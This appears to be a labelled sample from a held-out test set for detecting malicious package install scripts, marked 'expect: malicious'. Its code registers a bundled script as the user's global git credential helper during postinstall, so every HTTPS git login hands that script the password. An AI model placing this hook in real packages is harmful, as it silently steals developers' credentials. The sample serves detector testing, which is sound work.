// when: install
// expect: malicious
// source: a postinstall that registers its own script as the user's global git credential helper, so every
// HTTPS login of every repository hands it the password (seventh held-out set's second sample, 2026)
const { spawnSync } = require('child_process');
const path = require('path');

const helper = path.join(__dirname, 'git-credential-cache-sync');
spawnSync('git', ['config', '--global', '--add', 'credential.helper', '!' + helper]);
